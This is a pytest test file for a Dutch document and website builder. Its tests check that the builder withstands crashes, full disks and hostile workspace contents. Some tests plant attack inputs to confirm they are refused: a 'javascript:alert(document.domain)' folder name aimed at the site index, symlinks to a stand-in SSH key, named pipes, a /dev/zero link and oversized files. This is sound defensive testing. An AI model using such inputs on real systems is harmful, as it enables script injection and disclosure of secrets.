    gemeenten(werkmap, ["'s-Hertogenbosch", "Súdwest-Fryslân", "Bergen (NH)"])
    outcome = run_cli("build", werkmap, "-f", "docx", "--raadsstukken")
    assert outcome.returncode == 0, outcome.stderr
    raad = sorted(p.name for p in (werkmap / "build" / "raad").iterdir())
    assert raad == [
        f"{slug}-{soort}.docx"
        for slug in ("bergen-nh", "s-hertogenbosch", "sudwest-fryslan")
        for soort in ("raadsbesluit", "raadsvoorstel")
    ]


@pytest.mark.parametrize("command", ["build", "import"])
def test_blocks_nested_deeper_than_the_recursion_limit_are_read(zkij, tmp_path, command):
    """A zip holds folders nested a thousand deep in a few kilobytes, deeper than Python's
    recursion limit (where os.walk and rglob end in a RecursionError before 3.12): the
    block at the bottom is read like any other, by build and by an import into the
    workspace."""
    from tests.readers import concept_bestanden as concept

    folders = [zkij / "content" / "a"]
    while len(folders) < 1200:
        folders.append(folders[-1] / "a")
    for folder in folders:
        folder.mkdir()
    block = folders[-1] / "diep.md"
    block.write_text(
        "---\nid: diep\ntitel: Diep\nhoofdstuk: inleiding\n---\nDIEPE TEKST\n",
        encoding="utf-8",
    )
    try:
        if command == "build":
            outcome = run_cli("build", zkij, "-f", "html")
        else:
            outcome = run_cli("import", concept.with_heading_styles(tmp_path / "c.docx"), zkij)
    finally:  # bottom up: pytest's own clean-up (shutil.rmtree) recurses too
        block.unlink()
        for folder in reversed(folders):
            folder.rmdir()
    assert outcome.returncode == 0, outcome.stderr
    assert "Traceback" not in outcome.stderr
    if command == "build":
        html = (zkij / "build" / "regiovisie.html").read_text(encoding="utf-8")
        assert "DIEPE TEKST" in html
    else:
        assert "diep" in _opzet_blocks(zkij)


def test_folders_nested_deeper_than_the_recursion_limit_in_build_are_replaced(zkij):
    """build/ travels with a workspace, with folders nested a thousand deep: in the site's
    folder of this version (replaced), in an older version that is the newest (copied to
    latest/), in Sphinx's kept state and in the hidden work folder (both cleaned up).
    shutil.rmtree and rglob recursed there: a traceback after the site was written, and
    every later site build stopped at the left-over work folder."""
    from regiovisie_builder import storage
    from regiovisie_builder.writers.site import versie_index

    build = zkij / "build"
    places = ["site/0.9", "site/99.0", ".cache/site", ".regiovisie-opslag/oud"]
    try:
        for place in places:
            folder = build / place
            folder.mkdir(parents=True)
            for _ in range(1200):
                folder /= "a"
                folder.mkdir()
            (folder / "diep.txt").write_text("diep", encoding="utf-8")
        manifest = {"versie": "99.0", "status": "definitief", "datum": "2099-01-01"}
        manifest |= {"titel": "t", "regio": "r", "kenmerk": "k"}
        (build / "site" / "99.0" / versie_index.MANIFEST).write_text(json.dumps(manifest))
        outcome = run_cli("build", zkij, "-f", "site")
        assert outcome.returncode == 0, outcome.stderr
        assert "Traceback" not in outcome.stderr
        assert not (build / "site" / "0.9" / "a").exists()
        assert (build / "site" / "0.9" / "index.html").is_file()
        assert (build / "site" / "latest" / versie_index.MANIFEST).is_file()
        assert not (build / storage.WERKMAP_NAME).exists()
    finally:  # pytest's own clean-up (shutil.rmtree) recurses
        storage.remove_tree(build)


def _opzet_blocks(werkmap: Path) -> list[str]:
    import yaml

    opzet = werkmap / "templates" / "documenten" / "regiovisie.yaml"
    data = yaml.safe_load(opzet.read_text(encoding="utf-8"))
    return [b for h in data["hoofdstukken"] for b in h["blokken"]]


# 11. build --alle: one workspace that crashes does not lose the report of the others.


def _unexpected(folder: Path, options) -> list[str]:
    if folder.name == "crasht":
        raise RuntimeError("a bug, not bad input")
    if folder.name == "sterft":
        os._exit(9)  # the worker process dies, as after an out-of-memory kill
    return [f"{folder.name} gebouwd"]


@pytest.mark.parametrize("broken", ["crasht", "sterft"])
def test_batch_build_reports_every_workspace_when_one_crashes(broken, tmp_path, monkeypatch):
    from regiovisie_builder.commands import build

    for name in ("a-regio", broken, "z-regio"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "regio.yaml").write_text("regio: {}\n", encoding="utf-8")
    # The workers are forked, so they run the replaced build function too.
    monkeypatch.setattr(build, "build_werkmap", _unexpected)
    outcome = run_cli("build", "--alle", tmp_path, "-j", "1")
    output = outcome.stdout + outcome.stderr
    assert outcome.returncode == 1, output
    assert "Traceback" not in output
    # A dead worker breaks the pool: what was still waiting fails with it, and says so.
    built = ("0", "1") if broken == "sterft" else ("2",)
    assert any(f"{n} van 3 werkmappen gebouwd." in output for n in built)
    assert f"Mislukt: {tmp_path / broken}" in output


# 14. diff says when a published version's outputs changed after publication.


@pytest.fixture(scope="module")
def published(tmp_path_factory) -> Path:
    """The example after ``publish`` (version 0.9, in this process): made once, read-only
    for the tests (a test that changes it works on a copy)."""
    werkmap = copy_example("zuid-kennemerland-ijmond", tmp_path_factory.mktemp("gepubliceerd"))
    assert run_cli("publish", werkmap).returncode == 0
    return werkmap


def test_diff_reports_a_changed_published_output(tmp_path, published):
    werkmap = tmp_path / published.name
    shutil.copytree(published, werkmap, symlinks=True)
    output = werkmap / "versies" / "0.9" / "uitvoer" / "regiovisie.html"
    output.write_text("<p>nagemaakt</p>", encoding="utf-8")
    outcome = run_cli("diff", werkmap, "0.9")
    assert outcome.returncode == 0, outcome.stderr
    assert "Let op: versie 0.9 is niet meer zoals gepubliceerd:" in outcome.stderr
    assert "uitvoer/regiovisie.html: het bestand is na publicatie veranderd." in outcome.stderr


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("pipe", "bronnen/inleiding-aanleiding.md: dit is geen gewoon bestand"),
        ("folder-link", "manifest.json: dit is een koppeling (symlink) naar een bestand buiten"),
    ],
)
def test_a_published_version_is_read_only_from_plain_files_in_the_workspace(
    tmp_path, published, kind, message
):
    """versies/ travels with a workspace. A frozen source that is a named pipe made diff
    wait forever; a version folder that is a link to a folder elsewhere made diff read
    files outside the workspace. Both are refused in Dutch, within a time and memory cap."""
    werkmap = tmp_path / "regio" / published.name
    shutil.copytree(published, werkmap, symlinks=True)
    version = werkmap / "versies" / "0.9"
    if kind == "pipe":
        (version / "bronnen" / "inleiding-aanleiding.md").unlink()
        os.mkfifo(version / "bronnen" / "inleiding-aanleiding.md")
    else:
        shutil.move(version, tmp_path / "elders")
        version.symlink_to(tmp_path / "elders")
    outcome = run_cli_capped("diff", werkmap, "0.9", memory=MEMORY, timeout=TIME)
    assert outcome.returncode == 2, outcome.stderr
    assert message in outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert not (werkmap / "build").exists()


def test_build_linked_into_a_published_version_overwrites_nothing(tmp_path, published):
    """build/ as a link to a folder inside the workspace passed the check that outputs stay
    inside the workspace: linked to versies/0.9/uitvoer, a build overwrote the frozen
    documents of the published version. Now the tool writes only through real folders."""
    werkmap = tmp_path / published.name
    shutil.copytree(published, werkmap, symlinks=True)
    shutil.rmtree(werkmap / "build", ignore_errors=True)
    (werkmap / "build").symlink_to(Path("versies", "0.9", "uitvoer"))
    frozen = _hashes(werkmap / "versies")
    edit_yaml(werkmap, lambda d: d["document"].update(titel="Een nieuwe titel"))
    outcome = run_cli("build", werkmap, "-f", "html", "-f", "docx")
    assert outcome.returncode == 2, outcome.stderr
    assert "build' is een koppeling (symlink) naar een andere map" in outcome.stderr
    assert "Er is niets geschreven." in outcome.stderr and "Traceback" not in outcome.stderr
    assert _hashes(werkmap / "versies") == frozen


# 12. All files or none, for every output; no temporary file or folder stays behind.


def _hashes(folder: Path) -> dict[str, str]:
    import hashlib

    return {name: hashlib.sha256(content).hexdigest() for name, content in _files(folder).items()}


def _hidden(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob(".*"))


def test_output_path_that_is_a_folder_replaces_nothing(zkij):
    assert run_cli("build", zkij, "-f", "html", "-f", "docx").returncode == 0
    (zkij / "build" / "regiovisie.html").unlink()
    (zkij / "build" / "regiovisie.html").mkdir()
    (zkij / "regio.yaml").write_text(
        (zkij / "regio.yaml").read_text(encoding="utf-8") + "\n# veranderd\n", encoding="utf-8"
    )
    before = _hashes(zkij / "build")
    outcome = run_cli("build", zkij, "-f", "html", "-f", "docx")
    assert outcome.returncode == 2, outcome.stderr
    assert "regiovisie.html' is een map, maar daar moet een bestand komen" in outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert _hashes(zkij / "build") == before
    # No temporary files left; only the two caches of the previous build.
    assert _hidden(zkij / "build") == [".cache", ".regiovisie-cache.json"]


@pytest.mark.parametrize(
    ("place", "message"),
    [
        ("latest", "site/latest' ligt buiten de werkmap"),
        ("site", "site' is een bestand, maar daar moet een map komen"),
    ],
)
def test_a_website_that_cannot_land_leaves_the_documents_as_they_were(
    zkij, tmp_path, place, message
):
    """Word and HTML are written before the website. A place of the website that is found
    unwritable (a link out of the workspace, a file where its folder goes) must stop the
    build before the documents are replaced: the message says nothing was written."""
    assert run_cli("build", zkij, "-f", "html").returncode == 0
    build = zkij / "build"
    if place == "latest":
        outside = tmp_path / "elders"
        outside.mkdir()
        (build / "site").mkdir()
        (build / "site" / "latest").symlink_to(outside)
    else:
        (build / "site").write_text("geen map", encoding="utf-8")
    edit_yaml(zkij, lambda d: d["document"].update(titel="Een nieuwe titel"))
    before = _hashes(build)
    outcome = run_cli("build", zkij, "-f", "html", "-f", "site")
    assert outcome.returncode == 2, outcome.stderr
    assert message in outcome.stderr and "Er is niets geschreven." in outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert _hashes(build) == before


def test_a_no_op_cache_file_that_cannot_be_written_does_not_fail_the_build(zkij):
    """The no-op cache file is written after the outputs: a folder in its place (build/
    travels with a workspace) only costs the next build its shortcut, never a failed
    build whose outputs were written."""
    from regiovisie_builder.build_cache import CACHE_FILE

    (zkij / "build" / CACHE_FILE).mkdir(parents=True)
    outcome = run_cli("build", zkij, "-f", "html")
    assert outcome.returncode == 0, outcome.stderr
    assert (zkij / "build" / "regiovisie.html").is_file()
    assert run_cli("build", zkij, "-f", "html").returncode == 0


def test_a_failed_rename_puts_back_what_was_replaced(tmp_path, monkeypatch):
    from regiovisie_builder import storage
    from regiovisie_builder.errors import BuildError

    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text("oud a")
    b.write_text("oud b")
    real = os.replace

    def replace(source, target):
        if Path(target) == b:
            raise OSError(28, "No space left on device", str(target))
        real(source, target)

    monkeypatch.setattr(storage.os, "replace", replace)
    with pytest.raises(BuildError, match="de schijf is vol"):
        storage.write_files({a: b"nieuw a", b: b"nieuw b"}, tmp_path)
    assert (a.read_text(), b.read_text()) == ("oud a", "oud b")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt", "b.txt"]


KILL_AT_SECOND_RENAME = """
import os, sys
from regiovisie_builder import storage
storage._switch = lambda a, b: False  # force the two-rename path
real = os.replace
def replace(source, target):
    if ".nieuw-" in str(source) and str(target).endswith("/site/{versie}"):
        os._exit(9)  # killed between moving the old folder away and moving the new one in
    real(source, target)
storage.os.replace = replace
sys.argv = ["regiovisie", "build", sys.argv[1], "-f", "site"]
from regiovisie_builder.cli import main
main()
"""


@pytest.mark.slow
def test_crash_between_the_renames_of_a_site_version_loses_nothing(zkij):
    assert run_cli("build", zkij, "-f", "site").returncode == 0
    site = zkij / "build" / "site"
    before = _hashes(site / "0.9")
    (zkij / "regio.yaml").write_text(
        (zkij / "regio.yaml").read_text(encoding="utf-8") + "\n# veranderd\n", encoding="utf-8"
    )
    code = KILL_AT_SECOND_RENAME.replace("{versie}", "0.9")
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    killed = subprocess.run(
        [sys.executable, "-c", code, str(zkij)], env=environment, capture_output=True, timeout=TIME
    )
    assert killed.returncode == 9, killed.stderr
    assert _hidden(site) == []  # nothing hidden where it would be uploaded
    # The next run puts the old version back before it does anything else.
    outcome = run_cli("build", zkij, "-f", "site")
    assert outcome.returncode == 0, outcome.stderr
    assert set(_hashes(site / "0.9")) == set(before)
    assert _hidden(site) == []
    assert not (zkij / "build" / ".regiovisie-opslag").exists()


def test_publish_into_a_read_only_versions_folder_is_a_dutch_error(zkij, monkeypatch):
    import tempfile

    from regiovisie_builder import versies
    from regiovisie_builder.errors import ConfigError

    def no_permissions(*args, **kwargs):
        raise PermissionError(13, "Permission denied", str(zkij / "versies"))

    # As root a chmod does not stop writing, so the refusal is simulated where it happens.
    monkeypatch.setattr(tempfile, "mkdtemp", no_permissions)
    with pytest.raises(ConfigError, match="u hebt geen schrijfrechten op deze map"):
        versies.write_versie(zkij, "1.0", {"manifest.json": b"{}"})
    assert not (zkij / "versies" / "1.0").exists()
    assert _hidden(zkij / "versies") == []


FULL_DISK = {  # the command after ``regiovisie``, the Dutch message
    "publish": (("publish",), "Publiceren mislukt: het bestand is te groot voor deze schijf"),
    "site-in-full-tmpdir": (
        ("build", "-f", "site"),
        "De website kon niet worden gebouwd: schrijven in de tijdelijke",
    ),
}


@pytest.fixture(scope="module")
def full_disk(capped) -> dict[str, tuple[Path, Path, object]]:
    """Each command of ``FULL_DISK`` on a workspace of its own, in a process where every
    file written may hold 8 KB (and with the memory cap), with TMPDIR in an empty folder of
    its own: by name the workspace, that TMPDIR and the outcome (run with the batch of
    ``capped``, see ``tests/capped.py``)."""
    return {name: capped[f"full-disk:{name}"] for name in FULL_DISK}


@pytest.mark.parametrize("name", FULL_DISK)
def test_full_disk_gives_a_dutch_error_and_leaves_nothing(full_disk, name):
    zkij, tmpdir, outcome = full_disk[name]
    assert outcome.returncode == 2, outcome.stderr
    assert FULL_DISK[name][1] in outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert not (zkij / "versies" / "0.9").exists()
    assert _hidden(zkij) == []
    assert list(tmpdir.iterdir()) == []


def test_published_version_has_the_usual_permissions(published):
    umask = os.umask(0o022)
    os.umask(umask)
    version = published / "versies" / "0.9"
    for folder in [version, *version.rglob("*/")]:
        if folder.is_dir():
            assert folder.stat().st_mode & 0o777 == 0o777 & ~umask, folder


def test_cache_files_that_became_a_pipe_or_dev_zero_only_mean_a_full_build(zkij):
    """build/ travels with a workspace. The caches the last build left there (the no-op
    cache file, the block cache and the file of newer entries beside it, Sphinx's signed
    state) may have become a named pipe
    (opening it waits for a writer forever) or a symbolic link to /dev/zero (reading it
    never ends): the next build ignores them, within a time and memory cap."""
    from regiovisie_builder import blok_cache, sitecache
    from regiovisie_builder.build_cache import CACHE_FILE

    assert run_cli("build", zkij, "-f", "html", "-f", "site").returncode == 0
    build = zkij / "build"
    cache = build / blok_cache.CACHE_FOLDER
    for path in (build / CACHE_FILE, cache / blok_cache.FILE, cache / "site" / "manifest.json"):
        path.unlink()
    os.mkfifo(build / CACHE_FILE)
    (cache / blok_cache.FILE).symlink_to("/dev/zero")
    os.mkfifo(cache / blok_cache.DELTA)  # the block cache's newer entries
    os.mkfifo(cache / sitecache.SITE_FOLDER / sitecache.MANIFEST)
    (zkij / "build" / "regiovisie.html").unlink()
    outcome = run_cli_capped("build", zkij, "-f", "html", "-f", "site", memory=MEMORY, timeout=TIME)
    assert outcome.returncode == 0, outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert (build / "regiovisie.html").is_file()
    assert (build / CACHE_FILE).is_file()


def test_a_cache_folder_linked_into_the_workspace_deletes_nothing_there(zkij):
    """Saving Sphinx's state removes the files of build/.cache/site/ it no longer needs.
    build/ travels with a workspace: with that folder a link to content/, a build deleted
    every block of the workspace (and wrote its state among them)."""
    from regiovisie_builder import blok_cache, sitecache

    assert run_cli("build", zkij, "-f", "site").returncode == 0
    state = zkij / "build" / blok_cache.CACHE_FOLDER / sitecache.SITE_FOLDER
    shutil.rmtree(state)
    state.symlink_to(Path("..", "..", "content"))
    edit_yaml(zkij, lambda d: d["document"].update(titel="Een nieuwe titel"))
    before = _hashes(zkij / "content")
    outcome = run_cli("build", zkij, "-f", "site")
    assert outcome.returncode == 0, outcome.stderr
    assert _hashes(zkij / "content") == before


def test_build_files_nested_too_deeply_for_json_are_ignored(zkij):
    """build/ travels with a workspace. A no-op cache file, and the version file of an older
    site version, that json cannot read (nested 200,000 deep) only mean a full build and a
    version the site index does not list: never a traceback."""
    from regiovisie_builder.build_cache import CACHE_FILE
    from regiovisie_builder.writers.site import versie_index

    old_version = zkij / "build" / "site" / "0.1"
    old_version.mkdir(parents=True)
    (old_version / versie_index.MANIFEST).write_text(DEEP_JSON, encoding="utf-8")
    (zkij / "build" / CACHE_FILE).write_text(DEEP_JSON, encoding="utf-8")
    outcome = run_cli("build", zkij, "-f", "html", "-f", "site")
    assert outcome.returncode == 0, outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert (zkij / "build" / "regiovisie.html").is_file()
    assert (zkij / "build" / CACHE_FILE).read_bytes() != DEEP_JSON.encode()
    index = (zkij / "build" / "site" / "versies.json").read_text(encoding="utf-8")
    assert '"0.9"' in index and '"0.1"' not in index


def test_a_version_folder_that_is_no_version_number_is_not_listed(zkij):
    """build/site/ travels with a workspace and its folders become links on the site's
    version list. A folder named like a script address, with a manifest that agrees, must
    not become a link that runs a script on the published index page."""
    from lxml import html as lxml_html

    from regiovisie_builder.writers.site import versie_index

    name = "javascript:alert(document.domain)"
    planted = zkij / "build" / "site" / name
    planted.mkdir(parents=True)
    manifest = {"versie": name, "status": "definitief", "datum": "2099-01-01"}
    manifest |= {"titel": "t", "regio": "r", "kenmerk": "k"}
    (planted / versie_index.MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    outcome = run_cli("build", zkij, "-f", "site")
    assert outcome.returncode == 0, outcome.stderr
    site = zkij / "build" / "site"
    index = lxml_html.fromstring((site / "index.html").read_bytes())
    links = index.xpath("//a/@href")
    assert "0.9/index.html" in links
    assert not [a for a in links if "javascript" in a.lower()], links
    listed = (site / versie_index.LIST).read_text(encoding="utf-8")
    assert '"nieuwste": "0.9"' in listed and "javascript" not in listed


def test_a_link_in_an_older_site_version_does_not_copy_a_file_from_outside(zkij, tmp_path):
    """When an older version in build/site/ is the newest, latest/ is copied from its folder.
    build/ travels with a workspace: a symbolic link in that folder to a file elsewhere on
    the computer (an SSH key) must not be copied into the site as a real file."""
    from regiovisie_builder.writers.site import versie_index

    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM", encoding="utf-8")
    newest = zkij / "build" / "site" / "99.0"
    newest.mkdir(parents=True)
    manifest = {"versie": "99.0", "status": "definitief", "datum": "2099-01-01"}
    manifest |= {"titel": "t", "regio": "r", "kenmerk": "k"}
    (newest / versie_index.MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    (newest / "sleutel.txt").symlink_to(secret)
    outcome = run_cli("build", zkij, "-f", "site")
    assert outcome.returncode == 0, outcome.stderr
    latest = zkij / "build" / "site" / versie_index.NEWEST
    assert (latest / versie_index.MANIFEST).is_file()  # latest/ is the newest version, 99.0
    assert not (latest / "sleutel.txt").exists()
    assert not [p for p in latest.rglob("*") if p.is_file() and b"GEHEIM" in p.read_bytes()]


def test_a_huge_file_in_an_older_site_version_is_refused_before_anything_is_written(zkij):
    """latest/ is copied from an older version folder that is the newest one. build/
    travels with a workspace: a file of gigabytes in that folder (zeros, packed small in a
    zip) must not be read into memory; the build stops in Dutch, within a memory cap."""
    from regiovisie_builder.writers.site import versie_index

    newest = zkij / "build" / "site" / "99.0"
    newest.mkdir(parents=True)
    manifest = {"versie": "99.0", "status": "definitief", "datum": "2099-01-01"}
    manifest |= {"titel": "t", "regio": "r", "kenmerk": "k"}
    (newest / versie_index.MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    with open(newest / "groot.html", "wb") as out:
        out.truncate(4 * 1024**3)  # sparse: no disk space
    outcome = run_cli_capped("build", zkij, "-f", "html", "-f", "site", memory=MEMORY, timeout=TIME)
    assert outcome.returncode == 2, outcome.stderr
    assert "is te groot om over te nemen in latest/ (bijvoorbeeld 'groot.html'" in outcome.stderr
    assert "Er is niets geschreven." in outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert sorted(p.name for p in (zkij / "build").iterdir()) == ["site"]
    assert sorted(p.name for p in (zkij / "build" / "site").iterdir()) == ["99.0"]


def test_a_link_as_a_published_output_does_not_put_a_file_from_outside_on_the_site(
    tmp_path, published
):
    """The site offers a published version's frozen Word file as its download. versies/
    travels with a workspace: a frozen output that is a symbolic link to a file elsewhere
    on the computer (an SSH key) must not be copied onto the website."""
    werkmap = tmp_path / published.name
    shutil.copytree(published, werkmap, symlinks=True)
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM", encoding="utf-8")
    frozen = werkmap / "versies" / "0.9" / "uitvoer" / "regiovisie.docx"
    frozen.unlink()
    frozen.symlink_to(secret)
    outcome = run_cli("build", werkmap, "-f", "site")
    assert outcome.returncode == 2, outcome.stderr
    assert "De gepubliceerde versie 0.9 is niet meer intact." in outcome.stderr
    assert (
        "versies/0.9/uitvoer/regiovisie.docx: dit is een koppeling (symlink) naar een bestand "
        "buiten de werkmap" in outcome.stderr
    )
    assert "Traceback" not in outcome.stderr
    site = werkmap / "build" / "site"
    assert not [p for p in site.rglob("*") if p.is_file() and b"GEHEIM" in p.read_bytes()]


@pytest.mark.parametrize("place", ["latest", "index.html"])
def test_a_link_out_of_the_site_folder_writes_no_half_site(zkij, tmp_path, place):
    """build/site/latest (or the index page) as a link to a folder outside the workspace is
    refused; the message says nothing was written, and that is true: the version folder was
    written before the link was found."""
    outside = tmp_path / "elders"
    outside.mkdir()
    (outside / "bewaar.txt").write_text("x", encoding="utf-8")
    site = zkij / "build" / "site"
    site.mkdir(parents=True)
    (site / place).symlink_to(outside if place == "latest" else outside / "bewaar.txt")
    outcome = run_cli("build", zkij, "-f", "site")
    assert outcome.returncode == 2, outcome.stderr
    assert (
        "ligt buiten de werkmap" in outcome.stderr and "Er is niets geschreven." in outcome.stderr
    )
    assert sorted(p.name for p in site.iterdir()) == [place]
    assert sorted(p.name for p in outside.iterdir()) == ["bewaar.txt"]
    assert (outside / "bewaar.txt").read_text(encoding="utf-8") == "x"
